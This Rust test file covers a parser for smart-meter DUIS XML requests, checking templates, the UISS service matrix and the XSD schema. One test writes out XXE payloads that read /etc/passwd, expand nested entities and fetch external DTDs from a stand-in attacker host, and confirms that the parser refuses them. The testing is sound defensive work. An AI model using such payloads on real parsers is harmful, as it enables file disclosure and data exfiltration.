//! Tests against the reference corpus: every DUIS template, the UISS matrix JSON, the XSD.

#![allow(clippy::unwrap_used)]

mod common;

use std::collections::BTreeSet;

use duis::bodies::{DevicePrenotification, ReadInventory, RequestWanMatrix, UpdateInventory};
use duis::{
    CommandVariant, FutureDatedPattern, ParseError, ResponseCode, SIGNED_PRE_COMMAND, UserRole,
    all_variants, parse_request, service_variant,
};

/// The SRV a template's file name declares: `ECS52_11.2_…` → `11.2`, `8.2_READ_…` → `8.2`.
fn srv_from_file_name(name: &str) -> String {
    let mut parts = name.split('_');
    let first = parts.next().unwrap_or_default();
    let srv = if first.starts_with(|c: char| c.is_ascii_digit()) {
        first
    } else {
        parts.next().unwrap_or_default()
    };
    srv.trim_end_matches('.').to_owned()
}

#[test]
fn every_template_parses_and_matches_its_file_name() {
    let Some(corpus) = common::corpus_or_skip("every_template_parses") else {
        return;
    };
    let templates = common::templates(&corpus);
    assert_eq!(templates.len(), 297);
    let mut variants_seen = BTreeSet::new();
    for (name, bytes) in &templates {
        let r = parse_request(bytes).unwrap_or_else(|e| panic!("{name}: {e}"));
        let srv = srv_from_file_name(name);
        assert_eq!(r.header.service_reference_variant.as_str(), srv, "{name}");
        assert_eq!(r.schema_version, "5.4", "{name}");
        assert!(r.signature_present, "{name}");
        let v = r.check().unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(v.variant, srv);
        assert!(std::ptr::eq(service_variant(&srv).unwrap(), v));
        variants_seen.insert(v.variant);
        // The RequestID originator is a user, the target a device or the DCC.
        if r.header.command_variant == CommandVariant::NonDevice {
            assert!(v.non_device, "{name}");
        } else {
            assert_eq!(r.device_id(), Some(r.header.request_id.target), "{name}");
        }
        match r.body.name.as_str() {
            "ReadInventory" => {
                ReadInventory::parse(&r.body).unwrap_or_else(|e| panic!("{name}: {e}"));
            }
            "UpdateInventory" => {
                UpdateInventory::parse(&r.body).unwrap_or_else(|e| panic!("{name}: {e}"));
            }
            "RequestWANMatrix" => {
                RequestWanMatrix::parse(&r.body).unwrap_or_else(|e| panic!("{name}: {e}"));
            }
            "DevicePrenotification" => {
                let p =
                    DevicePrenotification::parse(&r.body).unwrap_or_else(|e| panic!("{name}: {e}"));
                assert_eq!(r.device_id(), Some(p.device_id));
            }
            _ => {}
        }
    }
    assert_eq!(variants_seen.len(), 129, "templates cover every variant");
}

#[test]
fn template_bodies_in_detail() {
    let Some(corpus) = common::corpus_or_skip("template_bodies_in_detail") else {
        return;
    };
    let read = |f: &str| std::fs::read(corpus.join("duis-templates").join(f)).unwrap();

    let r = parse_request(&read("8.2_READ_INVENTORY_REQUEST_DUIS.XML")).unwrap();
    assert_eq!(
        ReadInventory::parse(&r.body).unwrap(),
        ReadInventory::DeviceId("00-DB-12-34-56-78-90-A2".parse().unwrap())
    );
    assert_eq!(
        r.header.request_id.to_string(),
        "90-B3-D5-1F-30-01-00-00:90-B3-D5-1F-30-00-00-02:1000"
    );

    let r = parse_request(&read("12.1_REQUEST_WAN_MATRIX_ADDRESS_REQUEST_DUIS.XML")).unwrap();
    match RequestWanMatrix::parse(&r.body).unwrap() {
        RequestWanMatrix::PartialAddress(a) => {
            assert_eq!(a.post_code, "M22 0RR");
            assert_eq!(a.address_identifier, "Threapwood Road");
        }
        other => panic!("{other:?}"),
    }

    let r = parse_request(&read("12.2_DEVICE_PRE_NOTIFICATION_REQUEST_DUIS.XML")).unwrap();
    let p = DevicePrenotification::parse(&r.body).unwrap();
    assert_eq!(p.device_type, duis::DeviceType::Esme);
    assert_eq!(p.model, "010A030B");
    assert_eq!(p.smets_chts_version.as_deref(), Some("SMETS V1.58"));
    assert_eq!(p.firmware_version.as_deref(), Some("0002012F"));
    assert_eq!(p.esme_variant, Some(duis::EsmeVariant::Ad));

    let r = parse_request(&read("8.4_UPDATE_INVENTORY_REQUEST_DUIS.XML")).unwrap();
    assert_eq!(
        UpdateInventory::parse(&r.body).unwrap().update,
        duis::bodies::InventoryUpdate::DeleteDevice
    );
}

#[test]
fn samples() {
    let Some(corpus) = common::corpus_or_skip("samples") else {
        return;
    };
    let read = |f: &str| std::fs::read(corpus.join("duis-samples").join(f)).unwrap();
    for ok in [
        "ECS17b_4.1.1_SINGLE_SUCCESS_REQUEST_DUIS.XML",
        "ECS17b_4.1.1_SINGLE_SUCCESS_REQUEST_DUIS-signed.XML",
        "ECS17b_4.1.1_SINGLE_SUCCESS_REQUEST_DUIS-nonexist-businessid.XML",
        "ECS50_9.1_SUCCESS_REQUEST_DUIS.XML",
    ] {
        let r = parse_request(&read(ok)).unwrap_or_else(|e| panic!("{ok}: {e}"));
        r.check().unwrap_or_else(|e| panic!("{ok}: {e}"));
    }
    assert!(matches!(
        parse_request(&read(
            "ECS17b_4.1.1_SINGLE_SUCCESS_REQUEST_DUIS-invalid.XML"
        )),
        Err(ParseError::InvalidRequestId {
            field: "RequestID",
            ..
        })
    ));
    assert_eq!(
        parse_request(&read("duis-xxe.xml")),
        Err(ParseError::DoctypeForbidden)
    );
    // A response is not a request.
    assert!(matches!(
        parse_request(&read("acknowledgement-error.xml")),
        Err(ParseError::WrongRoot(_))
    ));
}

#[test]
fn xxe_request_variants_are_refused() {
    let Some(corpus) = common::corpus_or_skip("xxe_request_variants_are_refused") else {
        return;
    };
    let t =
        std::fs::read_to_string(corpus.join("duis-templates/8.2_READ_INVENTORY_REQUEST_DUIS.XML"))
            .unwrap();
    let decl_end = t.find("?>").unwrap() + 2;
    for dtd in [
        r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>"#,
        r#"<!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd">"#,
        r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>"#,
    ] {
        let doc = format!("{}{}{}", &t[..decl_end], dtd, &t[decl_end..]);
        assert_eq!(
            parse_request(doc.as_bytes()),
            Err(ParseError::DoctypeForbidden),
            "{dtd}"
        );
    }
    let with_ref = t.replace("00-DB-12-34-56-78-90-A2", "&x;");
    assert_eq!(
        parse_request(with_ref.as_bytes()),
        Err(ParseError::UndefinedEntity("x".into()))
    );
}

fn collapse(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn matrix_matches_uiss_json() {
    let Some(corpus) = common::corpus_or_skip("matrix_matches_uiss_json") else {
        return;
    };
    let json: serde_json::Value = serde_json::from_slice(
        &std::fs::read(corpus.join("uiss/service-reference-variants.json")).unwrap(),
    )
    .unwrap();
    let rows = json.as_array().unwrap();
    assert_eq!(rows.len(), all_variants().len());
    let yes = |v: &serde_json::Value| match v.as_str().unwrap() {
        "Yes" => true,
        "No" => false,
        other => panic!("{other}"),
    };
    for row in rows {
        let srv = row["Service Reference Variant"].as_str().unwrap();
        let v = service_variant(srv).unwrap_or_else(|| panic!("{srv} missing"));
        assert_eq!(
            v.name,
            collapse(row["Service Request Name"].as_str().unwrap())
        );
        let sr = row["Service Reference"].as_str().unwrap();
        if srv.starts_with("6.20.") {
            assert_eq!(
                (sr, v.service_reference),
                ("6.2", "6.20"),
                "documented correction"
            );
        } else {
            assert_eq!(v.service_reference, sr, "{srv}");
        }
        assert_eq!(v.critical, yes(&row["Critical"]), "{srv}");
        assert_eq!(v.on_demand, yes(&row["On Demand"]), "{srv}");
        assert_eq!(v.dcc_scheduled, yes(&row["DCC Scheduled"]), "{srv}");
        assert_eq!(v.non_device, yes(&row["Non-Device Request"]), "{srv}");
        let fd = match row["Future Dated Response Pattern"].as_str().unwrap() {
            "No" => FutureDatedPattern::None,
            "DSP" => FutureDatedPattern::Dsp,
            "Device" => FutureDatedPattern::Device,
            "DSP & Device" => FutureDatedPattern::DspAndDevice,
            other => panic!("{other}"),
        };
        assert_eq!(v.future_dated, fd, "{srv}");
        let mut roles: BTreeSet<UserRole> = row["Eligible User Roles"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r.as_str().unwrap().parse().unwrap())
            .collect();
        // The one correction (tools/gen_service_matrix.py): 7.16 lists no role; ECS47e is the
        // load controller's.
        if srv == "7.16" {
            assert!(
                roles.is_empty(),
                "7.16 now lists roles: drop the correction"
            );
            roles.insert(UserRole::LoadController);
        }
        assert_eq!(roles, v.roles.iter().copied().collect(), "{srv}");
        // Command variants follow the flags (narrowed for 8.1.1 and 8.5 by the XSD).
        let cvs: Vec<u8> = v.command_variants.iter().map(|c| c.value()).collect();
        let expected: &[u8] = match (srv, v.non_device, v.critical) {
            ("8.1.1", ..) => &[4, 5],
            ("8.5", ..) => &[1],
            (_, true, _) => &[8],
            (_, false, true) => &[4, 5, 6, 7],
            (_, false, false) => &[1, 2, 3],
        };
        assert_eq!(cvs, expected, "{srv}");
    }
}

/// The values of `attr="…"` inside the first `<tag>` … `</end>` region after `start`.
fn xsd_values(xsd: &str, start: &str, end: &str, attr: &str) -> Vec<String> {
    let from = xsd
        .find(start)
        .unwrap_or_else(|| panic!("{start} not found"));
    let region = &xsd[from..];
    let region = &region[..region.find(end).unwrap()];
    let needle = format!("{attr}=\"");
    region
        .match_indices(&needle)
        .map(|(i, _)| {
            let v = &region[i + needle.len()..];
            v[..v.find('"').unwrap()].to_owned()
        })
        .collect()
}

#[test]
fn response_codes_and_body_elements_match_xsd() {
    let Some(corpus) = common::corpus_or_skip("response_codes_match_xsd") else {
        return;
    };
    let xsd = std::fs::read_to_string(corpus.join("duis-schema/duis-schema-v5.4.xsd")).unwrap();
    let codes = xsd_values(
        &xsd,
        r#"<xs:simpleType name="ResponseCode">"#,
        "</xs:simpleType>",
        "value",
    );
    let ours: Vec<String> = ResponseCode::ALL
        .iter()
        .map(|c| c.as_str().to_owned())
        .collect();
    assert_eq!(ours, codes);

    let request = &xsd[xsd.find(r#"<xs:complexType name="Request">"#).unwrap()..];
    let body_choice = xsd_values(
        &request[request.find(r#"<xs:element name="Body">"#).unwrap()..],
        "<xs:choice>",
        "</xs:choice>",
        "name",
    );
    let mut ours: BTreeSet<String> = all_variants()
        .iter()
        .flat_map(|v| v.body_elements.iter().map(|s| (*s).to_owned()))
        .collect();
    ours.insert(SIGNED_PRE_COMMAND.to_owned());
    assert_eq!(ours, body_choice.into_iter().collect::<BTreeSet<_>>());
}

#[test]
fn generated_files_are_up_to_date() {
    let Some(corpus) = common::corpus_or_skip("generated_files_are_up_to_date") else {
        return;
    };
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../tools/gen_service_matrix.py"
    );
    let out = std::process::Command::new("python3")
        .arg(script)
        .arg("--check")
        .arg("--corpus")
        .arg(&corpus)
        .output();
    match out {
        Ok(o) => assert!(
            o.status.success(),
            "generator --check failed: {}",
            String::from_utf8_lossy(&o.stderr)
        ),
        Err(e) => {
            assert!(!common::in_ci(), "python3 not runnable under CI: {e}");
            eprintln!("SKIP generated_files_are_up_to_date: python3 not runnable: {e}");
        }
    }
}
